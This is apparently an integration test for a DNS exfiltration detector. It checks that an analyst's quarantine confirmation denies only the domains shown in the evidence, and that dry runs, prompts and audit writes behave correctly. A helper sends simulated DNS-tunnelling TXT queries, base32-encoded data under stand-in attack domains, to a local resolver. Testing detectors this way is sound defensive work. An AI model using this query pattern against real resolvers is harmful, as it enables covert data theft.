// `quarantine confirm --deny` puts on the learned deny list (which blocks a domain for everyone) only the
// domains the evidence shows data going to: scored blocks and the volume budget since the session's last
// release — never ordinary names the agent looked up while quarantined or before an earlier release. The
// list is shown first (API dry_run, CLI prompt) and only what the analyst confirms is applied, in one
// transaction with the confirmation and the audit rows. Real sockets, a real NSD upstream, the built CLI.
import { spawn } from 'node:child_process';
import { join, resolve } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FIXTURE, startUpstream, type Upstream } from '../helpers/upstream.js';
import { query } from '../helpers/dns-client.js';
import { startWarden, TEST_SESSION, type Warden } from '../helpers/warden.js';
import { base32Label } from '../helpers/exfil.js';

const CLI = join(resolve(import.meta.dirname, '../..'), 'dist/src/cli.js');
const ANALYST_TOKEN = 'analyst-bob-token-0123456789abcdef';
const AGENT = { id: 'deny-agent', addresses: ['127.0.0.6/32'], type: 'batch', user: 'etl', role: 'loader' } as const;
const OTHER = { id: 'deny-agent-2', addresses: ['127.0.0.7/32'], type: 'batch', user: 'etl2', role: 'loader' } as const;

let upstream: Upstream;
let warden: Warden;

beforeAll(async () => {
  upstream = await startUpstream();
  warden = await startWarden({
    admin: { tokens: [{ name: 'bob', kind: 'analyst', token: ANALYST_TOKEN }] },
    sessions: { static: [TEST_SESSION, AGENT, OTHER].map((s) => ({ ...s, addresses: [...s.addresses] })) },
  }, { upstream });
});

afterAll(async () => {
  await warden?.close();
  await upstream?.stop();
});

/** Exfiltration-shaped TXT queries to `domain` from `bind` until one says "session quarantined" (at most 8). */
async function exfiltrate(bind: string, domain: string): Promise<string> {
  for (let i = 0; i < 8; i++) {
    const reply = await query({ server: warden.dns, bind, name: `${base32Label(`${domain}-${i}`)}.${domain}`, type: 'TXT' });
    const m = /^session quarantined \((qr-[^)]+)\)/.exec(reply.ede?.text ?? '');
    if (m !== null) return m[1]!;
  }
  throw new Error(`no quarantine after 8 exfiltration queries from ${bind}`);
}

function cli(args: string[], input: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((ok, fail) => {
    const child = spawn(process.execPath, [CLI, ...args, '--url', warden.adminUrl, '--token', ANALYST_TOKEN], { stdio: ['pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c: Buffer) => void (stdout += c.toString()));
    child.stderr.on('data', (c: Buffer) => void (stderr += c.toString()));
    const timer = setTimeout(() => { child.kill('SIGKILL'); fail(new Error(`CLI did not exit: ${stdout} ${stderr}`)); }, 20_000);
    child.on('exit', (code) => { clearTimeout(timer); ok({ code, stdout, stderr }); });
    child.stdin.end(input);
  });
}

const state = async (id: string): Promise<string> => ((await warden.admin(`/v1/quarantines/${id}`)).json as { quarantine: { state: string } }).quarantine.state;
const denied = async (): Promise<string[]> => ((await warden.admin('/v1/deny')).json as { domains: { domain: string }[] }).domains.map((d) => d.domain);
const audit = async (): Promise<{ action: string; target: string; actor: string }[]> => ((await warden.admin('/v1/audit')).json as { audit: { action: string; target: string; actor: string }[] }).audit;

describe('confirm --deny: only exfiltration evidence since the last release, shown first, applied as confirmed', () => {
  let second: string;

  it('a quarantine released as a false positive, with ordinary lookups blocked while it held, then a real one', async () => {
    expect((await query({ server: warden.dns, bind: '127.0.0.6', name: FIXTURE.a.name, type: 'A' })).rcode).toBe('NOERROR');
    const first = await exfiltrate('127.0.0.6', 'first-attack.test');
    // Ordinary lookups while quarantined: blocked with rule "quarantined", and in the session's history.
    for (const name of [FIXTURE.a.name, 'www.benign-site.test']) {
      expect((await query({ server: warden.dns, bind: '127.0.0.6', name, type: 'A' })).ede?.text).toBe(`session quarantined (${first})`);
    }
    expect((await warden.admin(`/v1/quarantines/${first}/release`, { method: 'POST', body: { reason: 'false positive: a cache warm-up' } })).status).toBe(200);
    second = await exfiltrate('127.0.0.6', 'second-attack.test');
    expect(second).not.toBe(first);
  });

  it('the evidence names only the domain of the new exfiltration', async () => {
    const shown = await warden.admin(`/v1/quarantines/${second}`);
    // the evidence itself still carries the earlier history (context for the analyst) ...
    const recent = (shown.json as { quarantine: { evidence: { recent: { name: string; rule: string; count?: number }[] } } }).quarantine.evidence.recent;
    // The two ordinary lookups blocked while it held are one history row with a count (repeated blocks are aggregated).
    expect(recent.some((r) => r.rule === 'quarantined' && r.name === FIXTURE.a.name && r.count === 2)).toBe(true);
    expect(recent.some((r) => r.rule === 'threshold' && r.name.endsWith('.first-attack.test'))).toBe(true);
    // ... but none of it is a candidate for the deny list
    expect((shown.json as { attacker_domains: string[] }).attacker_domains).toEqual(['second-attack.test']);
  });

  it('the API dry run shows the list and changes nothing', async () => {
    const dry = await warden.admin(`/v1/quarantines/${second}/confirm`, { method: 'POST', token: ANALYST_TOKEN, body: { dry_run: true } });
    expect(dry.status).toBe(200);
    expect(dry.json).toMatchObject({ dry_run: true, deny_candidates: ['second-attack.test'], quarantine: { id: second, state: 'open' } });
    expect(await state(second)).toBe('open');
    expect(await denied()).toEqual([]);
  });

  it('refuses "deny everything" and a domain outside the evidence, changing nothing', async () => {
    for (const deny_domains of [true, ['benign-site.test'], ['dnswarden.test', 'second-attack.test']]) {
      const r = await warden.admin(`/v1/quarantines/${second}/confirm`, { method: 'POST', token: ANALYST_TOKEN, body: { reason: 'r', deny_domains } });
      expect(r.status, JSON.stringify(deny_domains)).toBe(400);
      expect((r.json as { error: { message: string } }).error.message).toContain('second-attack.test');
    }
    expect(await state(second)).toBe('open');
    expect(await denied()).toEqual([]);
  });

  it('the CLI shows the list and asks; "n" changes nothing', async () => {
    const r = await cli(['quarantine', 'confirm', second, '--reason', 'exfil', '--deny'], 'n\n');
    expect(r.stdout).toBe(`the evidence shows data going to:\n  second-attack.test\nconfirm ${second} and deny these 1 domain(s) for everyone? [y/N] nothing changed\n`);
    expect(r.code).toBe(1);
    expect(await state(second)).toBe('open');
    expect(await denied()).toEqual([]);
    const dry = await cli(['quarantine', 'confirm', second, '--deny', '--dry-run'], '');
    expect(dry).toEqual({ code: 0, stdout: 'would deny for everyone: second-attack.test\n', stderr: '' });
    expect(await state(second)).toBe('open');
  });

  it('"y" confirms and denies exactly the list shown, audited with the analyst as actor', async () => {
    const r = await cli(['quarantine', 'confirm', second, '--reason', 'exfil to second-attack.test', '--deny'], 'y\n');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`quarantine ${second} is now confirmed; denied for everyone: second-attack.test\n`);
    expect(await state(second)).toBe('confirmed');
    expect(await denied()).toEqual(['second-attack.test']);
    const rows = await audit();
    expect(rows).toContainEqual(expect.objectContaining({ actor: 'bob', action: 'quarantine.confirm', target: second }));
    expect(rows.filter((a) => a.action === 'deny.add').map((a) => a.target)).toEqual(['second-attack.test']);
    // the benign names are answered for everyone else
    expect((await query({ server: warden.dns, bind: '127.0.0.1', name: FIXTURE.a.name, type: 'A' })).rcode).toBe('NOERROR');
    expect((await query({ server: warden.dns, bind: '127.0.0.1', name: 'www.second-attack.test', type: 'A' })).ede?.code).toBe(17);
  });

  it('the confirmation, the deny entries and their audit rows are one transaction: a failed audit write leaves all unchanged', async () => {
    const third = await exfiltrate('127.0.0.7', 'third-attack.test');
    // A real store refusal, from a second connection to the same SQLite file: the deny.add audit row fails.
    const db = new Database(join(warden.storageDir, 'dnswarden.sqlite'));
    db.pragma('busy_timeout = 5000');
    db.exec("CREATE TRIGGER refuse_deny_audit BEFORE INSERT ON audit WHEN NEW.action = 'deny.add' BEGIN SELECT RAISE(ABORT, 'audit refused'); END");
    try {
      const r = await warden.admin(`/v1/quarantines/${third}/confirm`, { method: 'POST', token: ANALYST_TOKEN, body: { reason: 'exfil', deny_domains: ['third-attack.test'] } });
      expect(r.status).toBe(500);
    } finally {
      db.exec('DROP TRIGGER refuse_deny_audit');
      db.close();
    }
    expect(await state(third)).toBe('open');
    expect(await denied()).toEqual(['second-attack.test']);
    expect((await audit()).filter((a) => a.target === third)).toEqual([]);
    expect((await query({ server: warden.dns, bind: '127.0.0.1', name: 'www.third-attack.test', type: 'A' })).ede?.code).not.toBe(17);
  });
});
